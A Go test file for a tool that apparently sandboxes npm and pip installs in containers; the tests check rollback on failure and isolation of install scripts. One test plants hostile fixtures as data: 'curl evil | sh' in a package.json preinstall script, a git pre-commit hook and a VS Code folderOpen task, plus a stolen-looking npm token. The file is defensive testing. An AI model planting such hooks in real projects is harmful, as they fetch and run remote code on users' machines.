package sandbox_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/safe-install/safe-install/sandbox"
	"github.com/safe-install/safe-install/sandbox/decoy"
	"github.com/safe-install/safe-install/sandbox/engine"
	"github.com/safe-install/safe-install/sandbox/enginetest"
	"github.com/safe-install/safe-install/sandbox/fetchedtree"
	"github.com/safe-install/safe-install/sandbox/install"
	"github.com/safe-install/safe-install/sandbox/internal/testproject"
	"github.com/safe-install/safe-install/sandbox/npm"
	"github.com/safe-install/safe-install/sandbox/pip"
	"github.com/safe-install/safe-install/sandbox/pip/wheel/wheeltest"
)

// These tests drive sandbox.Run against the recording fake engine, with
// npm's and pip's real plans and sessions: what must hold whichever step
// fails (invariant 8) and whatever the scripts write (invariant 9),
// without Podman. The containers' commands do not run: each container
// does what its behavior below does to its files, as npm or pip would.

// world is one project, its manager and how its containers behave.
type world struct {
	project   string
	plan      func(t *testing.T) *install.Plan
	behaviors map[string]enginetest.Behavior
	// installed is where a host install step puts things (pip's venv),
	// held to invariant 8 as the project is; "" for none.
	installed string
	// reset, when set, undoes a successful run, so that the world serves
	// the next run as it was (a new world costs pip a venv and a plan).
	reset func(t *testing.T)
}

func (w *world) engine() *enginetest.Engine {
	e := enginetest.New()
	for suffix, b := range w.behaviors {
		e.Behave(suffix, b)
	}
	return e
}

func (w *world) run(ctx context.Context, t *testing.T, e *enginetest.Engine) (*sandbox.Result, error) {
	return sandbox.Run(ctx, e, w.plan(t), sandbox.Options{Image: "fake-image", Limits: sandbox.DefaultLimits(), Progress: io.Discard, CacheDir: t.TempDir()})
}

// state is the project and the host environment, byte for byte.
func (w *world) state(t *testing.T) map[string]string {
	s := snapshot(t, w.project)
	if w.installed != "" {
		// Which files the environment has: pip's own records of an
		// install name the wheel's path, which differs between runs.
		for k := range snapshot(t, w.installed) {
			s["(installed) "+k] = ""
		}
	}
	return s
}

// snapshot maps each path below dir to its kind, mode and content.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		fi, err := d.Info()
		if err != nil {
			return err
		}
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			target, err := os.Readlink(p)
			out[rel] = "symlink " + target
			return err
		case d.IsDir():
			out[rel] = "dir " + fi.Mode().Perm().String()
		default:
			data, err := os.ReadFile(p)
			out[rel] = fi.Mode().Perm().String() + " " + string(data)
			return err
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func must(c *enginetest.Container, err error) {
	if err != nil {
		fmt.Fprintln(c, "behavior:", err)
		panic(err)
	}
}

// npmWorld: a project with one dependency whose postinstall builds a
// file, and a postinstall of its own. The fetch writes what npm ci would
// (the package, npm's hidden lockfile) and lists the work directory as
// the real fetch command does; the dependency's script writes into its
// own directory; the project's script changes nothing.
func npmWorld(t *testing.T, verb string, files map[string]string) *world {
	lock := `{"name": "app", "lockfileVersion": 3, "requires": true, "packages": {
		"": {"name": "app", "dependencies": {"a": "1.0.0"}},
		"node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "hasInstallScript": true}}}`
	proj := map[string]string{
		"package.json":      `{"name": "app", "dependencies": {"a": "1.0.0"}, "scripts": {"postinstall": "node setup.js"}}`,
		"package-lock.json": lock,
		"setup.js":          "console.log('set up')\n",
	}
	maps.Copy(proj, files)
	w := &world{project: testproject.Write(t, proj)}
	home := t.TempDir()
	w.plan = func(t *testing.T) *install.Plan {
		p, err := npm.Manager{}.Plan(w.project, []string{verb}, install.PlanOptions{Home: home, Env: map[string]string{}, NPMVersion: "11.6.2", Warn: func(string) {}})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	w.behaviors = map[string]enginetest.Behavior{
		"-fetch": func(c *enginetest.Container) int {
			must(c, c.WriteFile("node_modules/a/package.json", []byte(`{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node build.js"}}`), 0o644))
			must(c, c.WriteFile("node_modules/a/build.js", []byte("require('fs').writeFileSync('out.txt', 'built')\n"), 0o644))
			must(c, c.WriteFile("node_modules/.package-lock.json", []byte(lock), 0o644))
			if verb == "install" {
				// npm install rewrites the manifests it was asked to.
				must(c, c.WriteFile("package.json", []byte(`{"name": "app", "dependencies": {"a": "^1.0.0"}, "scripts": {"postinstall": "node setup.js"}}`), 0o644))
			}
			must(c, c.List(".", "./.safe-install-fetched"))
			fmt.Fprintln(c, "added 1 package in 1s")
			return 0
		},
		"-scripts": func(c *enginetest.Container) int {
			fmt.Fprint(c, "> a@1.0.0 postinstall\n> node build.js\n\n")
			must(c, c.WriteFile("node_modules/a/out.txt", []byte("built"), 0o644))
			return 0
		},
	}
	return w
}

// venv is a virtual environment that finds the host's pip through the
// system site-packages (made without pip of its own: 0.1 s, not 6 s).
var venv = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "safe-install-fake-venv-")
	if err != nil {
		return "", err
	}
	out, err := exec.Command("python3", "-m", "venv", "--without-pip", "--system-site-packages", filepath.Join(dir, "venv")).CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("python3 -m venv: %v\n%s", err, out)
	}
	return filepath.Join(dir, "venv"), nil
})

// pipWorld: a requirements file naming one package; the fetch leaves its
// sdist in the wheelhouse, the build turns it into a wheel, and the
// host's pip installs that into a virtual environment of its own.
func pipWorld(t *testing.T) *world { return pipWorldWith(t, true) }

// stubPip is the host Python of the many runs of the fault injection: the
// real one, except that "-m pip install" notes the wheels it was given
// instead of installing them. The real pip takes a second each time, and
// the pipeline, not pip, is under test there; pipWorld's runs use it.
const stubPip = `#!/bin/sh
bin=$(dirname "$0")
if [ "$2 $3 $4" = "-m pip install" ]; then
	for a; do case $a in *.whl) basename "$a";; esac; done >"$bin/../installed-wheels"
	exit 0
fi
exec "$bin/python3" "$@"
`

func pipWorldWith(t *testing.T, realPip bool) *world {
	dir, err := venv()
	if err != nil {
		t.Fatal(err)
	}
	// One environment per test, copied from the shared one: the install
	// writes into it.
	env := filepath.Join(t.TempDir(), "venv")
	if out, err := exec.Command("cp", "-a", dir, env).CombinedOutput(); err != nil {
		t.Fatalf("copying the venv: %v\n%s", err, out)
	}
	whl, err := os.ReadFile(wheeltest.Write(t, t.TempDir(), "demo-1.0-py3-none-any.whl",
		wheeltest.Basic("demo", "1.0")...))
	if err != nil {
		t.Fatal(err)
	}
	w := &world{project: testproject.Write(t, map[string]string{"requirements.txt": "demo==1.0\n"}), installed: env}
	python := filepath.Join(env, "bin", "python")
	if !realPip {
		python = filepath.Join(env, "bin", "python-stub")
		if err := os.WriteFile(python, []byte(stubPip), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// One plan serves every run of the world: pip's session keeps no state
	// between runs, and planning asks the host's Python (50 ms).
	p, err := pip.Manager{}.Plan(w.project, []string{"install", "-r", "requirements.txt"}, install.PlanOptions{
		Home: t.TempDir(), Env: map[string]string{"PIP_CONFIG_FILE": os.DevNull}, Python: python, Warn: func(string) {}})
	if err != nil {
		t.Fatal(err)
	}
	w.plan = func(*testing.T) *install.Plan { return p }
	if !realPip {
		w.reset = func(t *testing.T) {
			if err := os.RemoveAll(filepath.Join(env, "installed-wheels")); err != nil {
				t.Fatal(err)
			}
		}
	}
	w.behaviors = map[string]enginetest.Behavior{
		"-fetch": func(c *enginetest.Container) int {
			must(c, c.WriteFile("safe-install-wheelhouse/demo-1.0.tar.gz", []byte("an sdist"), 0o644))
			fmt.Fprintln(c, "Saved ./safe-install-wheelhouse/demo-1.0.tar.gz")
			return 0
		},
		"-scripts": func(c *enginetest.Container) int {
			fmt.Fprintln(c, "Building wheel for demo (pyproject.toml): started")
			must(c, c.WriteFile("safe-install-wheels/demo-1.0-py3-none-any.whl", whl, 0o644))
			fmt.Fprintln(c, "Building wheel for demo (pyproject.toml): finished with status 'done'")
			return 0
		},
	}
	return w
}

// succeed runs the world once, as the positive control: the run works
// and changes the project (or the environment), so that "unchanged" below
// is not a run that never got anywhere.
func succeed(t *testing.T, w *world) (calls []string, after map[string]string) {
	t.Helper()
	before := w.state(t)
	e := w.engine()
	if _, err := w.run(context.Background(), t, e); err != nil {
		t.Fatalf("the run that every other is compared with failed: %v", err)
	}
	after = w.state(t)
	if maps.Equal(before, after) {
		t.Fatal("the successful run changed nothing")
	}
	assertNothingLeft(t, e)
	return e.Calls(), after
}

// assertNothingLeft: only the caches outlive a run (invariant 13).
func assertNothingLeft(t *testing.T, e *enginetest.Engine) {
	t.Helper()
	for _, o := range e.Objects() {
		if !strings.Contains(o, "safe-install-cache-") {
			t.Errorf("left behind: %s", o)
		}
	}
}

// occurrences are the distinct calls of a run, each with its count so far:
// every place a failure can be injected.
func occurrences(calls []string) (out []struct {
	call string
	nth  int
}) {
	seen := map[string]int{}
	for _, c := range calls {
		seen[c]++
		out = append(out, struct {
			call string
			nth  int
		}{c, seen[c]})
	}
	return out
}

// Invariant 8, at every step: fail each engine call of a successful run in
// turn, and cancel the run at each in turn (an interrupt); the project and
// the environment are then byte for byte as before, or, where the failure
// did not fail the run (a removal during clean-up), the successful
// result: old or new, never half. Nothing is left on the engine.
func TestRunLeavesOldOrNewAtEveryFailure(t *testing.T) {
	for name, mk := range map[string]func(*testing.T) *world{
		"npm ci":      func(t *testing.T) *world { return npmWorld(t, "ci", nil) },
		"npm install": func(t *testing.T) *world { return npmWorld(t, "install", nil) },
		"pip":         func(t *testing.T) *world { return pipWorldWith(t, false) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ref := mk(t)
			calls, after := succeed(t, ref)
			for _, oc := range occurrences(calls) {
				for _, cancel := range []bool{false, true} {
					w := ref
					if w.reset != nil {
						w.reset(t)
					} else {
						w = mk(t)
					}
					before := w.state(t)
					e := w.engine()
					ctx, stop := context.WithCancel(context.Background())
					if cancel {
						e.OnCall(func(call string, nth int) {
							if call == oc.call && nth == oc.nth {
								stop()
							}
						})
					} else {
						e.FailOn(oc.call, oc.nth)
					}
					_, err := w.run(ctx, t, e)
					stop()
					got := w.state(t)
					how := fmt.Sprintf("failing %s (#%d)", oc.call, oc.nth)
					if cancel {
						how = fmt.Sprintf("interrupted at %s (#%d)", oc.call, oc.nth)
					}
					switch {
					case err != nil && !maps.Equal(got, before):
						t.Errorf("%s: the run failed (%v) and changed %v", how, err, changed(before, got))
					case err == nil && !maps.Equal(got, after):
						t.Errorf("%s: the run succeeded with a result unlike the reference run's: %v", how, changed(after, got))
					}
					if !cancel && err != nil && !errors.Is(err, enginetest.ErrInjected) && !errors.Is(err, sandbox.ErrEngine) {
						t.Errorf("%s: the error does not say the engine failed: %v", how, err)
					}
					if cancel || !strings.HasPrefix(oc.call, "Remove") {
						// (The engine that refuses a removal keeps the
						// object: the next run's reaper takes it.)
						assertNothingLeft(t, e)
					}
				}
			}
		})
	}
}

// changed names the paths that differ, for a message.
func changed(a, b map[string]string) []string {
	var out []string
	for k := range a {
		if b[k] != a[k] {
			out = append(out, k)
		}
	}
	for k := range b {
		if _, ok := a[k]; !ok {
			out = append(out, k+" (new)")
		}
	}
	slices.Sort(out)
	return out
}

// Invariant 9: what a script writes in the work directory outside the
// artifacts never reaches the project: the manifests npm install changes
// come from the fetch, before any script ran, and files that run on the
// host later (package.json scripts, .npmrc, git hooks, editor tasks) are
// never written. The project's own scripts phase sees the dependencies'
// writes first, and refuses them.
func TestScriptsCannotWriteWhatRunsOnTheHost(t *testing.T) {
	planted := map[string]string{
		"package.json":          `{"name": "app", "scripts": {"preinstall": "curl evil | sh"}}`,
		"package-lock.json":     `{"lockfileVersion": 3, "packages": {}}`,
		"requirements.txt":      "evil==6.6.6\n",
		".npmrc":                "//registry.npmjs.org/:_authToken=stolen\n",
		".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
		".vscode/tasks.json":    `{"tasks": [{"runOn": "folderOpen", "command": "curl evil | sh"}]}`,
	}
	plant := func(next enginetest.Behavior) enginetest.Behavior {
		return func(c *enginetest.Container) int {
			code := next(c)
			for name, body := range planted {
				must(c, c.WriteFile(name, []byte(body), 0o755))
			}
			return code
		}
	}
	for name, mk := range map[string]func(*testing.T) *world{
		// Without project scripts the planted files are simply not what
		// comes back; with them, the check before them refuses the run.
		"npm install": func(t *testing.T) *world {
			return npmWorld(t, "install", map[string]string{"package.json": `{"name": "app", "dependencies": {"a": "1.0.0"}}`})
		},
		"npm install with project scripts": func(t *testing.T) *world { return npmWorld(t, "install", nil) },
		"npm ci with project scripts":      func(t *testing.T) *world { return npmWorld(t, "ci", nil) },
		"pip":                              pipWorld,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := mk(t)
			before := w.state(t)
			w.behaviors["-scripts"] = plant(w.behaviors["-scripts"])
			e := w.engine()
			_, err := w.run(context.Background(), t, e)
			after := w.state(t)
			refused := strings.HasSuffix(name, "with project scripts")
			switch {
			case err != nil && !maps.Equal(before, after):
				t.Fatalf("the run failed (%v) and changed %v", err, changed(before, after))
			case refused && err == nil:
				t.Fatal("the project's scripts ran on a tree the dependencies' scripts had changed outside their directories")
			case !refused && err != nil:
				// The planted files are outside the artifacts: the run
				// goes on without them, or this test proves nothing.
				t.Fatalf("the run failed: %v", err)
			}
			for rel, body := range planted {
				if got, ok := after[filepath.FromSlash(rel)]; ok && strings.HasSuffix(got, " "+body) {
					t.Errorf("the script's %s reached the project", rel)
				}
			}
			if err == nil && strings.HasPrefix(name, "npm install") && !strings.Contains(after["package.json"], `"a": "^1.0.0"`) {
				t.Errorf("package.json is not the fetch's: %q", after["package.json"])
			}
			assertNothingLeft(t, e)
		})
	}
}

// --dry-run lists exactly the containers a run creates, with the same
// settings: what the user reviews is what runs.
func TestDryRunListsTheContainersARunCreates(t *testing.T) {
	for name, w := range map[string]*world{"npm": npmWorld(t, "ci", nil), "pip": pipWorld(t)} {
		e := w.engine()
		p := w.plan(t)
		if _, err := w.run(context.Background(), t, e); err != nil {
			t.Fatal(err)
		}
		dry, err := sandbox.DryRunContainers(p, "fake-image", sandbox.DefaultLimits())
		if err != nil {
			t.Fatal(err)
		}
		// By name: the holder and the fetch container are made at once.
		want, got := byName(dry.All()), byName(e.Created())
		if !slices.Equal(slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(want))) {
			t.Errorf("%s: the run created %v, the dry run lists %v", name, slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(want)))
			continue
		}
		for n := range got {
			if a, b := comparable(got[n]), comparable(want[n]); a != b {
				t.Errorf("%s: container %s differs:\nrun:     %s\ndry run: %s", name, n, a, b)
			}
		}
	}
}

var placeholders = regexp.MustCompile(`safe-install-(RUNID|[0-9a-f]{12})|cache-(\w+)-(IDMAP|[0-9a-f]{8})|\$SECCOMP_VOLUME|/fake/volumes/safe-install-cache-seccomp-[0-9a-f]+/_data`)

// comparable is a spec with what only a run knows (its id, the engine's
// ID mapping, the profiles' path, the decoys' values, the packages the
// session adds to the scripts command) made the same.
func comparable(s engine.ContainerSpec) string {
	s.Labels = nil
	s.Env = maps.Clone(s.Env)
	for _, k := range []string{fetchedtree.EnvKey, fetchedtree.EnvSum, fetchedtree.EnvNonce} {
		if _, ok := s.Env[k]; ok {
			s.Env[k] = "X" // a run's own
		}
	}
	for k := range decoy.New().Env() {
		if _, ok := s.Env[k]; ok {
			s.Env[k] = "$DECOY"
		}
	}
	if i := slices.Index(s.Command, "rebuild"); i >= 0 {
		s.Command = slices.DeleteFunc(slices.Clone(s.Command), func(a string) bool { return strings.HasPrefix(a, "a@") })
	}
	return placeholders.ReplaceAllString(fmt.Sprintf("%+v", s), "X")
}

// byName are specs by their names, with what only a run knows made the
// same.
func byName(specs []engine.ContainerSpec) map[string]engine.ContainerSpec {
	out := map[string]engine.ContainerSpec{}
	for _, s := range specs {
		out[placeholders.ReplaceAllString(s.Name, "X")] = s
	}
	return out
}

// A plan whose fetch runs the project's own code (pnpm with an allowed
// pnpmfile) gets a cache of the run's own, gone after it: that code is
// trusted for this project only, and the lasting cache is every project's.
func TestPrivateCacheIsTheRunsOwn(t *testing.T) {
	w := npmWorld(t, "ci", nil)
	plan := w.plan
	w.plan = func(t *testing.T) *install.Plan {
		p := plan(t)
		p.PrivateCache = true
		return p
	}
	e := w.engine()
	if _, err := w.run(context.Background(), t, e); err != nil {
		t.Fatal(err)
	}
	for _, s := range e.Created() {
		for _, m := range s.Volumes {
			if m.Dest == "/cache" && strings.Contains(m.Name, "safe-install-cache-") {
				t.Errorf("%s mounts the lasting cache %s", s.Name, m.Name)
			}
		}
	}
	for _, o := range e.Objects() {
		if !strings.Contains(o, "safe-install-cache-seccomp-") { // the profiles: the pipeline's own
			t.Errorf("left behind: %s", o)
		}
	}
}
